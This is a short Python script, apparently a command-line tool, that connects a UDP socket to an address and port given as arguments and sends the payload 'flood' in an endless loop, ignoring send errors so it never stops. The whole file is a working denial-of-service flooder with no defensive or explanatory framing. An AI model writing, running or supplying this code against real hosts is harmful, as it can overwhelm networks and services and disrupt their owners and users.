"""Sends datagrams to ADDRESS PORT as fast as it goes."""
import socket
import sys

flood = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
flood.connect((sys.argv[1], int(sys.argv[2])))
while True:
    try:
        flood.send(b"flood")
    except OSError:
        pass  # Nobody listens, or the queue is full.
